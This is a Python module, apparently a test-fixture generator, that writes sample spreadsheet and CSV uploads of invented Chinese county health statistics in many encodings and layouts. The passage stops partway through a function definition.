"""The files of good/ and bad/ as programs make them. Run by hand: python -m tests.uploads.make [name ...]

Spreadsheets and GB18030 text cannot be read in a diff, so here stands what is in each and which program wrote it. What
the reader should make of them is NOT made here: it is written by hand beside each file. All counties and figures are
invented. Needs LibreOffice (soffice) for the .xls, .ods and converted files. about.tsv is written anew from what is
said here.
"""

import csv
import datetime
import io
import re
import struct
import subprocess
import sys
import tempfile
import zipfile
from pathlib import Path

import docx
import openpyxl
import xlsxwriter
from openpyxl.comments import Comment
from openpyxl.styles import Alignment, Font

HERE = Path(__file__).parent
FILES = {}
LONG = ["县区", "指标", "年份", "数值", "单位"]
INFANT, UNDER5, MATERNAL = "婴儿死亡率", "5岁以下儿童死亡率", "孕产妇死亡率"
ELDERLY, PRESSURE, DIABETES = "65岁及以上老年人健康管理率", "高血压患者规范管理率", "2型糖尿病患者规范管理率"
LIFE, BEDS, NURSES, LITERACY = "人均预期寿命", "每千人口医疗卫生机构床位数", "每千人口注册护士数", "居民健康素养水平"
TEMPLATE = [
    "县区代码",
    "县区",
    "指标编号",
    "指标",
    "单位",
    "年份",
    "时期",
    "状态",
    "数值",
    "分子",
    "分母",
    "口径",
    "来源",
    "备注",
]
TARGETS = [
    "县区代码",
    "县区",
    "指标编号",
    "指标",
    "单位",
    "目标年",
    "范围",
    "比较符",
    "目标值",
    "目标值上限",
    "属性",
    "基期值",
    "基期年",
    "来源文件",
    "位置",
    "备注",
]
TASKS = [
    "任务编号",
    "县区代码",
    "县区",
    "任务",
    "数量",
    "数量单位",
    "期限",
    "责任股室",
    "状态",
    "来源文件",
    "位置",
    "备注",
]


def made(path: str, *, by: str, special: str, layout: str = "", encoding: str = ""):
    """Registers a function without arguments that gives the file's bytes. layout, encoding: of the sheets used, joined
    by '+'.
    """

    def keep(make):
        FILES[path] = (make, by, layout, encoding, special)
        return make

    return keep


def text(rows, *, encoding="utf-8", sep=",", end="\r\n") -> bytes:
    out = io.StringIO(newline="")
    csv.writer(out, delimiter=sep, lineterminator=end).writerows(rows)
    return out.getvalue().encode(encoding)


def book(sheets: dict, dress=None) -> bytes:
    """openpyxl: {sheet name: rows}; dress(workbook) adds merges, formats, notes."""
    made = openpyxl.Workbook()
    made.remove(made.active)
    for name, rows in sheets.items():
        sheet = made.create_sheet(name)
        for row in rows:
            sheet.append(row)
    if dress:
        dress(made)
    out = io.BytesIO()
    made.save(out)
    return out.getvalue()


def written(draw) -> bytes:
    """XlsxWriter: draw(workbook) writes the cells."""
    out = io.BytesIO()
    made = xlsxwriter.Workbook(out, {"in_memory": True})
    draw(made)
    made.close()
    return out.getvalue()


def converted(body: bytes, *, start: str, to: str) -> bytes:
    """Through LibreOffice, as an office that has no Excel would save it. to: 'xls', 'ods:calc8' ..."""
    with tempfile.TemporaryDirectory() as folder:
        given = Path(folder, f"given.{start}")
        given.write_bytes(body)
        command = ["soffice", f"-env:UserInstallation=file://{folder}/profile", "--headless", "--convert-to", to]
        subprocess.run([*command, "--outdir", f"{folder}/out", given], check=True, capture_output=True, timeout=120)
        return next(Path(folder, "out").iterdir()).read_bytes()


def zipped(members: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name, body)
    return out.getvalue()


def members(body: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def old_workbook(name: str, rows) -> bytes:
    """BIFF8 records without a container. A cell: a text, a number, ('divided', a, b) for =a/b or ('copied', row,
    column) for =B2, both with the empty text that a library keeps which computes nothing.
    """

    def record(kind: int, *parts: bytes) -> bytes:
        body = b"".join(parts)
        return struct.pack("<HH", kind, len(body)) + body

    def formula(row: int, column: int, tokens: bytes) -> bytes:
        kept = b"\x03\0\0\0\0\0\xff\xff"
        return record(0x0006, struct.pack("<HHH8sH4xH", row, column, 0, kept, 0, len(tokens)), tokens)

    cells = []
    for row, line in enumerate(rows):
        for column, cell in enumerate(line):
            place = struct.pack("<HHH", row, column, 0)
            if isinstance(cell, str):
                cells.append(record(0x0204, place, struct.pack("<HB", len(cell), 1), cell.encode("utf-16-le")))
            elif not isinstance(cell, tuple):
                cells.append(record(0x0203, place, struct.pack("<d", cell)))
            elif cell[0] == "divided":
                cells.append(formula(row, column, struct.pack("<BHBHB", 0x1E, cell[1], 0x1E, cell[2], 0x06)))
            else:
                cells.append(formula(row, column, struct.pack("<BHH", 0x44, cell[1], cell[2] | 0xC000)))
    begin, end = (record(0x0809, struct.pack("<HH12x", 0x0600, kind)) for kind in (0x05, 0x10)), record(0x000A)
    book, sheet = begin
    listed = struct.pack("<BBBB", 0, 0, len(name), 1) + name.encode("utf-16-le")
    at = len(book) + 4 + 4 + len(listed) + len(end)
    return b"".join([book, record(0x0085, struct.pack("<I", at), listed), end, sheet, *cells, end])


# ---- text files


@made(
    "good/long_utf8.csv", by="Python csv", special="UTF-8 without BOM, long form, LF", layout="long", encoding="UTF-8"
)
def _():
    rows = [
        ["甲县", INFANT, 2023, "4.3", "‰"],
        ["甲县", ELDERLY, 2023, "71.50", "%"],
        ["乙县", INFANT, 2023, "5.1", "‰"],
    ]
    rows += [
        ["乙县", ELDERLY, 2023, "69.8", "%"],
        ["丙县", MATERNAL, 2024, "0", "1/10万"],
        ["丙县", LIFE, 2024, "78.62", "岁"],
    ]
    return text([LONG, *rows], end="\n")


@made(
    "good/long_bom.csv",
    by="WPS 'CSV UTF-8'",
    special="UTF-8 with BOM, everyday header words",
    layout="long",
    encoding="UTF-8",
)
def _():
    head = ["序号", "区县名称", "指标名称", "年度", "指标值", "计量单位", "数据来源"]
    rows = [
        [1, "甲县", PRESSURE, "2024年", "66.31", "%", "慢病系统"],
        [2, "乙县", PRESSURE, "2024年", "70.02", "%", "慢病系统"],
    ]
    return text([head, *rows, [3, "丙县", DIABETES, "2024年", "64.9", "%", ""]], encoding="utf-8-sig")


@made(
    "good/long_gb18030.csv",
    by="WPS 'CSV'",
    special="GB18030 with a four-byte character in a note",
    layout="long",
    encoding="GB18030",
)
def _():
    rows = [["甲县", INFANT, 2024, "3.9", "‰", "㙍乡另报"], ["乙县", INFANT, 2024, "4.4", "‰", ""]]
    return text([[*LONG, "备注"], *rows], encoding="gb18030")


@made("good/semicolon_gbk.csv", by="Excel, other locale", special="GBK, semicolons", layout="long", encoding="GB18030")
def _():
    rows = [["甲县", NURSES, 2023, "3.61", "人/千人"], ["乙县", BEDS, 2023, "6.20", "张/千人"]]
    return text([LONG, *rows], encoding="gbk", sep=";")


@made(
    "good/unicode_text.txt",
    by="Excel 'Unicode text'",
    special="UTF-16 LE with BOM, tabs",
    layout="long",
    encoding="UTF-16",
)
def _():
    rows = [["甲县", LITERACY, 2023, "28.15", "%"], ["丙县", LITERACY, 2023, "26.7", "%"]]
    return b"\xff\xfe" + text([LONG, *rows], encoding="utf-16-le", sep="\t")


@made(
    "good/tabs.tsv",
    by="Python csv",
    special="TSV, years across, county in the title line",
    layout="years_across",
    encoding="UTF-8",
)
def _():
    rows = [["甲县卫生健康主要指标"], [], ["指标", "单位", "2021年", "2022年", "2023年"]]
    rows += [[INFANT, "‰", "4.8", "4.6", "4.3"], [ELDERLY, "%", "65.2", "—", "71.5"], ["注：2022年未统计。"]]
    return text(rows, sep="\t", end="\n")


@made(
    "good/printed_cells.csv",
    by="Python csv",
    special="signs and words printed with the number: 98.5% 4.3‰ 11.91/10万 12.7 (2023) １２．５ 1,234 NBSP",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [["甲县", ELDERLY, 2023, "98.5%"], ["甲县", INFANT, 2023, "4.3‰"], ["甲县", MATERNAL, 2023, "11.91/10万"]]
    rows += [
        ["乙县", MATERNAL, 2023, "12.7 (2023)"],
        ["乙县", LIFE, 2023, "７８．５"],
        ["乙县", "卫生专业技术人员数", 2023, "1,234"],
    ]
    rows += [
        ["丙县", ELDERLY, 2023, "\u00a070.1\u00a0"],
        ["丙县", LIFE, 2023, "78.0岁"],
        ["丙县", INFANT, 2023, " 4.50 ‰"],
    ]
    return text([LONG[:4], *rows], encoding="utf-8-sig")


@made(
    "good/blanks.csv",
    by="Python csv",
    special="the many ways to say 'no figure'; none is 0, and 0 is a figure",
    layout="areas_across",
    encoding="UTF-8",
)
def _():
    rows = [["2024年各县区指标"], ["指标", "单位", "甲县", "乙县", "丙县"], [INFANT, "‰", "—", "…", "4.2"]]
    rows += [
        [MATERNAL, "1/10万", "0", "0.0", "/"],
        [ELDERLY, "%", "-", "", "70.5"],
        [LIFE, "岁", "未统计", "无", "78.1"],
    ]
    return text(rows)


@made("good/signs.csv", by="Python csv", special="three ways to write minus, a plus", layout="long", encoding="UTF-8")
def _():
    name = "公立医院次均住院费用增幅"
    rows = [
        ["甲县", name, 2023, "-1.2"],
        ["乙县", name, 2023, "−3.4"],
        ["丙县", name, 2023, "－０．５"],
        ["甲县", name, 2022, "+2.0"],
    ]
    return text([LONG[:4], *rows])


@made(
    "good/status_period.csv",
    by="Python csv",
    special="half-year, quarter, 妇幼年度, 快报 年报 核定",
    layout="long",
    encoding="GB18030",
)
def _():
    head = ["县区", "指标", "年份", "时期", "状态", "数值"]
    rows = [["甲县", INFANT, "2024", "妇幼年度", "年报", "4.1"], ["甲县", INFANT, "2025", "上半年", "快报", "3.8"]]
    rows += [["乙县", INFANT, "2024", "全年", "核定", "4.6"], ["乙县", INFANT, "2025", "一季度", "快报", "4.0"]]
    return text([head, *rows, ["丙县", INFANT, "2024", "", "", "5.2"]], encoding="gb18030")


@made(
    "good/period_in_year.csv",
    by="Python csv",
    special="period and status inside the year cell and the value's header",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [
        ["甲县", MATERNAL, "2025年上半年", "12.5"],
        ["甲县", MATERNAL, "2024妇幼年度", "11.8"],
        ["乙县", MATERNAL, "2024年度", "13.1"],
    ]
    return text([["地区", "指标名称", "时间", "数值"], *rows])


@made(
    "good/codes12.csv",
    by="statistics portal",
    special="12-digit area codes, indicator ids, no names",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [
        ["900101000000", "infant_mortality", 2023, "4.3"],
        ["900102000000", "life_expectancy", 2023, "78.41"],
        ["900103", "infant_mortality", 2023, "5"],
    ]
    return text([["行政区划代码", "指标编号", "年份", "数值"], *rows])


@made(
    "good/full_names.csv",
    by="statistics portal",
    special="甲省甲市甲县, 甲 县, a city's own row",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [
        ["甲省甲市甲县", INFANT, 2023, "4.3"],
        ["甲市乙县", INFANT, 2023, "4.9"],
        ["丙 县", INFANT, 2023, "5.0"],
        ["甲市", INFANT, 2023, "4.7"],
    ]
    return text([["行政区划", "指标", "年份", "数值"], *rows, ["丁河县", INFANT, 2023, "3.3"]])


@made(
    "good/quoted.csv",
    by="Python csv",
    special="line breaks, commas and quotes inside cells; trailing commas",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [
        ["甲县", INFANT, 2023, "4.3", "见“附表”,\n第二页", "", ""],
        ["乙县", INFANT, 2023, "4.6", '写作"4.6"', "", ""],
    ]
    return text(
        [["县区", "指标", "年份", "数值", "备注", "", ""], *rows, ["", "", "", "", "", "", ""]], encoding="utf-8-sig"
    )


@made("good/sep_line.csv", by="Excel with sep=", special="first line sep=;", layout="long", encoding="UTF-8")
def _():
    rows = [["甲县", LIFE, 2022, "77.9", "岁"], ["乙县", LIFE, 2022, "78.3", "岁"]]
    return b"\xef\xbb\xbfsep=;\r\n" + text([LONG, *rows], sep=";")


@made(
    "good/unit_spellings.csv", by="Python csv", special="accepted spellings of units", layout="long", encoding="UTF-8"
)
def _():
    rows = [
        ["甲县", ELDERLY, 2023, "70.1", "％"],
        ["甲县", MATERNAL, 2023, "11.9", "/10万"],
        ["甲县", NURSES, 2023, "3.6", "人"],
    ]
    return text([LONG, *rows, ["甲县", BEDS, 2023, "6.1", "张"], ["甲县", MATERNAL, 2022, "12.0", "1/10 万"]])


@made(
    "good/duplicates_same.csv",
    by="Python csv",
    special="the same row twice with the same value; once without its unit and with one more zero",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [["甲县", INFANT, 2023, "4.3", "‰"], ["乙县", INFANT, 2023, "4.9", "‰"], ["甲县", INFANT, 2023, "4.3", "‰"]]
    return text([LONG, *rows, ["乙县", f" {INFANT}", "2023年", "4.90", ""]])


@made(
    "good/doubtful.csv",
    by="Python csv",
    special="over 100 % of an estimated denominator, outside the plausible range",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [
        ["甲县", ELDERLY, 2023, "102.3", "%"],
        ["乙县", LIFE, 2023, "96.1", "岁"],
        ["丙县", ELDERLY, 2023, "100", "%"],
    ]
    return text([LONG, *rows])


@made(
    "bad/bounds.csv",
    by="Python csv",
    special="a bound or about a number instead of a figure: refused",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [
        ["甲县", ELDERLY, 2023, "≥70"],
        ["乙县", ELDERLY, 2023, "72%以上"],
        ["丙县", INFANT, 2023, "＜5‰"],
        ["丁河县", LIFE, 2023, "约78"],
    ]
    return text([LONG[:4], *rows])


@made(
    "good/counts.csv",
    by="Python csv",
    special="numerators and denominators that give the value within its printed digits",
    layout="long",
    encoding="GB18030",
)
def _():
    head = ["县区", "指标", "年份", "数值", "分子", "分母", "口径", "人群"]
    rows = [
        ["甲县", ELDERLY, 2023, "71.5", "7150", "10000", "2023版", "常住"],
        ["乙县", INFANT, 2023, "4.26", "4", "939", "", ""],
    ]
    return text([head, *rows, ["丙县", MATERNAL, 2023, "98.7", "1", "1013", "", ""]], encoding="gb18030")


# ---- Excel files


def _years_across():
    head = ["指标名称", "计量单位", 2021, 2022, 2023, 2024]
    rows = [
        [INFANT, "‰", 4.8, 4.6, 4.3, 4.1],
        [ELDERLY, "%", 65.2, 68.4, 71.5, None],
        [LIFE, "岁", 77.6, 77.9, 78.25, 78.4],
    ]
    rows += [[MATERNAL, "1/10万", 0, 22.5, 0, "…"], [BEDS, "张/千人", 6.05, 6.1, 6.22, 6.3]]
    notes = [[], ["注：1.2024年为快报数。"], ["    2.孕产妇死亡率一例即上百。"], ["数据来源：甲县卫生健康局。"]]
    return [["甲县卫生健康事业发展主要指标"], ["（2021—2024年）"], [], head, *rows, *notes]


@made(
    "good/years_across.xlsx",
    by="openpyxl",
    special="title over merged cells, frozen panes, notes under the table",
    layout="years_across",
)
def _():
    def dress(made):
        sheet = made.active
        sheet.merge_cells("A1:F1")
        sheet.merge_cells("A2:F2")
        sheet["A1"].font, sheet["A1"].alignment = Font(bold=True, size=16), Alignment(horizontal="center")
        sheet.freeze_panes = "C5"

    return book({"Sheet1": _years_across()}, dress)


@made(
    "good/areas_across.xlsx",
    by="XlsxWriter",
    special="counties across for one year in the title, blank first column, borders far below the table",
    layout="areas_across",
)
def _():
    def draw(made):
        sheet, edge = made.add_worksheet("汇总"), made.add_format({"border": 1})
        sheet.merge_range("B1:F1", "甲市2024年卫生健康指标完成情况表", made.add_format({"bold": True}))
        for row, cells in enumerate(
            [
                ["指标", "单位", "甲县", "乙县", "丙县"],
                [INFANT, "‰", 4.1, 4.6, 5.2],
                [PRESSURE, "%", 66.31, 70.02, 64.9],
            ]
        ):
            sheet.write_row(2 + row, 1, cells, edge)
        for row in range(5, 60):
            for column in range(1, 6):
                sheet.write_blank(row, column, None, edge)

    return written(draw)


@made(
    "good/indicators_across.xlsx",
    by="openpyxl",
    special="two-row header merged by theme, a unit line under it",
    layout="indicators_across",
)
def _():
    rows = [["2023年各县（区）妇幼与慢病主要指标"], ["县区", "妇幼健康", None, "慢病管理", None]]
    rows += [[None, INFANT, MATERNAL, PRESSURE, DIABETES], ["单位", "‰", "1/10万", "%", "%"]]
    rows += [["甲县", 4.3, 11.9, 65.1, 63.2], ["乙县", 4.9, 0, 69.4, "—"], ["丙县", 5.0, 23.1, 64.0, 61.8]]

    def dress(made):
        sheet = made.active
        for area in ("A1:E1", "A2:A3", "B2:C2", "D2:E2"):
            sheet.merge_cells(area)

    return book({"2023": rows}, dress)


@made(
    "good/number_formats.xlsx",
    by="XlsxWriter",
    special="percent format (0.715 shown 71.5%), 0.00 (12.7 shown 12.70), a float that is not quite 98.1, thousands",
    layout="long",
)
def _():
    def draw(made):
        sheet = made.add_worksheet("Sheet1")
        share, two, thousand = (made.add_format({"num_format": f}) for f in ("0.0%", "0.00", "#,##0"))
        sheet.write_row(0, 0, LONG[:4])
        cells = [
            ("甲县", ELDERLY, 2023, 0.715, share),
            ("乙县", ELDERLY, 2023, 98.1 - 1e-14, None),
            ("甲县", MATERNAL, 2023, 12.7, two),
        ]
        cells += [
            ("丙县", ELDERLY, 2023, 0.7, share),
            ("丙县", "卫生专业技术人员数", 2023, 1234, thousand),
            ("乙县", LIFE, 2023, 78, made.add_format({"num_format": "0.0"})),
        ]
        for row, (*front, value, look) in enumerate(cells, 1):
            sheet.write_row(row, 0, front)
            sheet.write_number(row, 3, value, look)

    return written(draw)


@made(
    "good/formulas.xlsx",
    by="XlsxWriter",
    special="formula cells with the value Excel kept (72.7272… shown 72.73)",
    layout="long",
)
def _():
    def draw(made):
        sheet, two = made.add_worksheet("Sheet1"), made.add_format({"num_format": "0.00"})
        sheet.write_row(0, 0, ["县区", "指标", "年份", "数值", "分子", "分母"])
        sheet.write_row(1, 0, ["甲县", ELDERLY, 2023])
        sheet.write_formula(1, 3, "=E2/F2*100", two, 800 / 1100 * 100)
        sheet.write_row(1, 4, [800, 1100])
        sheet.write_row(2, 0, ["乙县", ELDERLY, 2023, 70.5, 705, 1000])

    return written(draw)


@made(
    "good/text_numbers.xlsx",
    by="openpyxl",
    special="a column kept as text throughout, with spaces, NBSP and full width: read without a word",
    layout="long",
)
def _():
    rows = [
        ["甲县", INFANT, "2023", "4.3"],
        ["乙县", INFANT, 2023, " 4.9 "],
        ["丙县", INFANT, 2023, "５．０"],
        ["甲县", LIFE, 2023, "78.2\u00a0"],
    ]
    return book({"Sheet1": [LONG[:4], *rows]})


@made("good/mixed_numbers.xlsx", by="openpyxl", special="one number kept as text among numbers", layout="long")
def _():
    rows = [["甲县", INFANT, 2023, 4.3], ["乙县", INFANT, 2023, "4.9"], ["丙县", INFANT, 2023, 5.1]]
    return book({"Sheet1": [LONG[:4], *rows]})


@made(
    "good/merged_counties.xlsx",
    by="openpyxl",
    special="the county's cell merged over its rows, blank rows between",
    layout="long",
)
def _():
    rows = [
        ["县区", "指标", "年份", "数值"],
        ["甲县", INFANT, 2023, 4.3],
        [None, LIFE, 2023, 78.2],
        [None, ELDERLY, 2023, 71.5],
    ]
    rows += [[], ["乙县", INFANT, 2023, 4.9], [None, LIFE, 2023, 77.8]]

    def dress(made):
        made.active.merge_cells("A2:A4")
        made.active.merge_cells("A6:A7")

    return book({"Sheet1": rows}, dress)


@made(
    "good/sheet_per_county.xlsx",
    by="openpyxl",
    special="one sheet a county, its name on the tab; a cover and an empty sheet",
    layout="years_across+years_across",
)
def _():
    head = ["指标", "单位", "2022年", "2023年"]
    cover = [["甲市卫生健康统计资料"], ["（内部资料  注意保存）"], ["二〇二四年三月"]]
    one, two = (
        [head, [INFANT, "‰", 4.6, 4.3], [LIFE, "岁", 77.9, 78.2]],
        [head, [INFANT, "‰", 5.2, 4.9], [LIFE, "岁", 77.1, 77.8]],
    )
    return book({"封面": cover, "甲县": one, "乙县": two, "Sheet3": []})


@made(
    "good/sheet_per_year.xlsx",
    by="openpyxl",
    special="one sheet a year, the year on the tab",
    layout="indicators_across+indicators_across",
)
def _():
    head = ["县区", f"{INFANT}(‰)", f"{ELDERLY}（%）", f"{LIFE}/岁"]
    one, two = (
        [["甲县", 4.6, 68.4, 77.9], ["乙县", 5.2, 66.0, 77.1]],
        [["甲县", 4.3, 71.5, 78.2], ["乙县", 4.9, 69.8, 77.8]],
    )
    return book({"2022年": [head, *one], "2023年": [head, *two]})


@made(
    "good/hidden_and_notes.xlsx",
    by="openpyxl",
    special="a hidden sheet of last year, cell notes, a hidden row and column",
    layout="long",
)
def _():
    def dress(made):
        made["上年"].sheet_state = "hidden"
        made["本年"]["D2"].comment = Comment("已与疾控核对", "股室")
        made["本年"].column_dimensions["F"].hidden = True

    now, before = (
        [LONG, ["甲县", INFANT, 2024, 4.1, "‰"], ["乙县", INFANT, 2024, 4.6, "‰"]],
        [LONG, ["甲县", INFANT, 2023, 9.9, "‰"]],
    )
    return book({"本年": now, "上年": before}, dress)


@made(
    "good/portal_inline.xlsx",
    by="zip by hand, as portals stream it",
    special="inline strings, no dimension, no cell references, no styles",
    layout="long",
)
def _():
    def cell(value):
        return (
            f"<c><v>{value}</v></c>"
            if isinstance(value, (int, float))
            else f'<c t="inlineStr"><is><t xml:space="preserve">{value}</t></is></c>'
        )

    rows = [LONG[:4], ["甲县", INFANT, 2023, 4.3], ["乙县", INFANT, 2023, 4.9], ["丙县", LIFE, 2023, 78.05]]
    body = "".join(f"<row>{''.join(map(cell, row))}</row>" for row in rows)
    return zipped(
        _plain_book()
        | {
            "xl/worksheets/sheet1.xml": f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{MAIN}"><sheetData>{body}</sheetData></worksheet>'
        }
    )


MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def _plain_book() -> dict:
    types = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    rels = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"/></Relationships>'
    workbook = f'<?xml version="1.0"?><workbook xmlns="{MAIN}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="数据导出" sheetId="1" r:id="rId1"/></sheets></workbook>'
    return {
        "[Content_Types].xml": types,
        "_rels/.rels": rels.format(kind="officeDocument", target="xl/workbook.xml"),
        "xl/workbook.xml": workbook,
        "xl/_rels/workbook.xml.rels": rels.format(kind="worksheet", target="worksheets/sheet1.xml"),
    }


@made("good/wrong_dimension.xlsx", by="openpyxl, then edited", special="says its cells reach XFD1048576", layout="long")
def _():
    body = book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"], ["乙县", LIFE, 2023, 77.8, "岁"]]})
    parts = members(body)
    name = "xl/worksheets/sheet1.xml"
    parts[name] = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', parts[name])
    return zipped(parts)


@made("good/far_cell.xlsx", by="openpyxl", special="one stray space in cell Z60000: a sparse sheet", layout="long")
def _():
    return book({"Sheet1": [LONG, ["甲县", INFANT, 2023, 4.3, "‰"]]}, lambda made: made.active.cell(60000, 26, " "))


@made("good/office97.xls", by="LibreOffice, MS Excel 97", special="real .xls, years across", layout="years_across")
def _():
    return converted(book({"Sheet1": _years_across()}), start="xlsx", to="xls:MS Excel 97")


@made("good/from_ods.xlsx", by="LibreOffice, from ODS", special="XLSX born as ODS", layout="long")
def _():
    rows = [
        LONG,
        ["甲县", INFANT, 2023, 4.3, "‰"],
        ["乙县", INFANT, 2023, 4.95, "‰"],
        ["丙县", MATERNAL, 2023, 0, "1/10万"],
    ]
    return converted(converted(book({"Sheet1": rows}), start="xlsx", to="ods"), start="ods", to="xlsx")


@made(
    "good/template.xlsx",
    by="openpyxl",
    special="the dashboard's own form, filled: three sheets",
    layout="long+targets+commitments",
)
def _():
    figures = [
        ["900101", "甲县", "infant_mortality", INFANT, "‰", 2024, "全年", "年报", 4.1, None, None, None, None, None]
    ]
    figures += [
        [
            "900101",
            "甲县",
            "elderly_health_management",
            ELDERLY,
            "%",
            2024,
            "全年",
            "快报",
            72.35,
            7235,
            10000,
            "2023版",
            "老年健康系统",
            "初步统计",
        ]
    ]
    figures += [
        [
            "900101",
            "甲县",
            "life_expectancy",
            LIFE,
            "岁",
            2024,
            "全年",
            None,
            None,
            None,
            None,
            None,
            None,
            "待省里反馈",
        ]
    ]
    targets = [
        [
            "900101",
            "甲县",
            "infant_mortality",
            INFANT,
            "‰",
            2025,
            "规划",
            "≤",
            5,
            None,
            "预期性",
            5.6,
            2020,
            "甲县“十四五”卫生健康规划",
            "指标体系表 第 3 行",
            None,
        ]
    ]
    targets += [
        [
            "900101",
            "甲县",
            "beds_per_1000",
            BEDS,
            "张/千人",
            2025,
            "规划",
            "区间",
            6,
            7.5,
            "约束性",
            None,
            None,
            "甲县“十四五”卫生健康规划",
            "第三章 二、",
            "按常住人口",
        ]
    ]
    tasks = [
        [
            "",
            "900101",
            "甲县",
            "建成县域急诊急救五大中心",
            5,
            "个",
            "2025年底",
            "医政股",
            "进行中",
            "甲县“十四五”卫生健康规划",
            "第三章 三、",
            None,
        ]
    ]
    return book({"数据": [TEMPLATE, *figures], "目标": [TARGETS, *targets], "任务": [TASKS, *tasks]})


@made(
    "good/date_years.xlsx",
    by="XlsxWriter",
    special="the year as a date cell shown 2023年; a unit inside the number format",
    layout="long",
)
def _():
    def draw(made):
        sheet = made.add_worksheet("Sheet1")
        year, rate = made.add_format({"num_format": 'yyyy"年"'}), made.add_format({"num_format": '0.00"‰"'})
        sheet.write_row(0, 0, LONG[:4])
        for row, (area, value) in enumerate([("甲县", 4.3), ("乙县", 4.95)], 1):
            sheet.write_row(row, 0, [area, INFANT])
            sheet.write_datetime(row, 2, datetime.datetime(2023, 12, 31), year)
            sheet.write_number(row, 3, value, rate)

    return written(draw)


@made(
    "good/unit_line.xlsx",
    by="openpyxl",
    special="'单位：%' above the header holds for the sheet; blank first rows",
    layout="areas_across",
)
def _():
    rows = [[], [], ["2023年慢性病患者规范管理情况"], ["单位：%"], ["指标", "甲县", "乙县", "丙县"]]
    return book(
        {"Sheet1": [*rows, [PRESSURE, 65.1, 69.4, 64.0], [DIABETES, 63.2, None, 61.8], ["填表人：　　　审核人："]]}
    )


@made(
    "good/numbered.xlsx",
    by="openpyxl",
    special="numbered indicators, theme rows, '其中：', units in brackets",
    layout="years_across",
)
def _():
    rows = [
        ["乙县“十四五”规划指标监测表"],
        ["序号", "指标", "2022年", "2023年"],
        ["一", "健康水平", None, None],
        [1, "1.人均预期寿命（岁）", 77.1, 77.8],
    ]
    rows += [
        ["二", "妇幼健康", None, None],
        [2, "（一）5岁以下儿童死亡率（‰）", 6.6, 6.1],
        [3, "其中：婴儿死亡率（‰）", 5.2, 4.9],
    ]
    return book({"监测表": rows})


@made(
    "good/title_says_when.xls",
    by="LibreOffice, MS Excel 97",
    special="half-year and 快报 in the title; percent format and text numbers in a real .xls",
    layout="indicators_across",
)
def _():
    def draw(made):
        sheet, share = made.add_worksheet("Sheet1"), made.add_format({"num_format": "0.0%"})
        sheet.write(0, 0, "2025年上半年基本公共卫生服务快报")
        sheet.write_row(1, 0, ["县区", ELDERLY, PRESSURE])
        for row, (area, one, two) in enumerate([("甲县", 0.385, "33.1"), ("乙县", 0.402, "35.0")], 2):
            sheet.write_string(row, 0, area)
            sheet.write_number(row, 1, one, share)
            sheet.write_string(row, 2, two)

    return converted(written(draw), start="xlsx", to="xls:MS Excel 97")


@made(
    "good/repeated_header.csv",
    by="statistics portal",
    special="the header again at each page, page numbers between",
    layout="long",
    encoding="GB18030",
)
def _():
    one, two = [["甲县", INFANT, 2023, "4.3", "‰"]], [["乙县", INFANT, 2023, "4.9", "‰"]]
    return text([LONG, *one, ["第1页 共2页"], LONG, *two, ["第2页 共2页"]], encoding="gb18030")


@made("good/indicator_over_years.xlsx", by="openpyxl", special="each indicator merged over two years: both across")
def _():
    rows = [
        ["县区", INFANT, None, LIFE, None],
        [None, "2022年", "2023年", "2022年", "2023年"],
        ["甲县", 4.6, 4.3, 77.9, 78.2],
        ["乙县", 5.2, 4.9, 77.1, 77.8],
    ]

    def dress(made):
        for area in ("A1:A2", "B1:C1", "D1:E1"):
            made.active.merge_cells(area)

    return book({"Sheet1": rows}, dress)


@made(
    "good/form.csv",
    by="Python csv",
    special="the dashboard's own form as CSV, half filled",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [["900102", "乙县", "infant_mortality", INFANT, "‰", "2024", "全年", "年报", "4.6", "5", "1087", "", "", ""]]
    rows += [["900102", "乙县", "life_expectancy", LIFE, "岁", "2024", "全年", "", "", "", "", "", "", ""]]
    return text([TEMPLATE, *rows], encoding="utf-8-sig")


@made(
    "good/beside_history.csv",
    by="Python csv",
    special="a jump, a value ten times the county's own, an infant rate above the under-five rate",
    layout="long",
    encoding="UTF-8",
)
def _():
    rows = [
        ["丁河县", LIFE, 2023, "71.2", "岁"],
        ["丁河县", MATERNAL, 2023, "121", "1/10万"],
        ["丁河县", INFANT, 2023, "6.4", "‰"],
    ]
    return text([LONG, *rows, ["丁河县", UNDER5, 2023, "5.9", "‰"], ["丁河县", ELDERLY, 2023, "71.0", "%"]])


@made(
    "bad/counts_differ.csv",
    by="Python csv",
    special="numerator and denominator that do not give the value; a numerator above its denominator",
    layout="long",
    encoding="UTF-8",
)
def _():
    head = ["县区", "指标", "年份", "数值", "分子", "分母"]
    return text(
        [head, ["丁河县", ELDERLY, 2022, "71.5", "6150", "10000"], ["丁河县", PRESSURE, 2022, "66.1", "10000", "6610"]]
    )


@made(
    "good/header_breaks.xlsx",
    by="openpyxl",
